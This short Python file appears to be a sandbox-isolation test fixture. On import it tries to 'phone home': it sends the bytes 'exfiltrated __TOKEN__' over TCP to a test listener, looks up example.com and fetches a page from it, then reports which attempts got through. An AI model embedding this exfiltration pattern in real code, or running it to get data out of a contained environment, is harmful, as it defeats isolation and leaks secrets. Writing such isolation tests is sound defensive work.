"""N1: phones home: a TCP connection to the test's listener (on loopback and on the machine's
other addresses), a DNS lookup and an HTTP request.

via: grade
"""
import socket
import urllib.request


def _try(label, action, results):
    try:
        action()
        results[label] = "ok"
    except OSError as exc:
        results[label] = exc.strerror or type(exc).__name__


def _send(host):
    with socket.create_connection((host, int("__PORT__")), timeout=2) as sock:
        sock.sendall(b"exfiltrated __TOKEN__")


def _phone_home():
    results = {}
    hosts = "__HOSTS__"  # the machine's other addresses, comma-separated
    for host in ["127.0.0.1", *(h for h in hosts.split(",") if h)]:
        _try(f"tcp {host}", lambda host=host: _send(host), results)
    _try("dns", lambda: socket.getaddrinfo("example.com", 80), results)
    _try("http", lambda: urllib.request.urlopen("http://example.com", timeout=2).read(1),
         results)
    print("NETWORK", results, flush=True)


_phone_home()
